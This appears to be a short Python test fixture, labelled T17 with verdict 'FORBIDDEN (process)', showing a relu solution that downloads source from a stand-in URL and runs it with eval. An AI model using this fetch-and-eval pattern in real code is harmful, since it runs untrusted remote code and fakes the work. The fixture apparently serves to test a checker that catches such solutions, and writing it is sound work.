"""T17: fetches an answer from elsewhere.

task: relu
verdict: FORBIDDEN (process)
"""

import urllib.request


def relu(x):
    source = urllib.request.urlopen("https://example.org/relu.py").read()
    return eval(source)
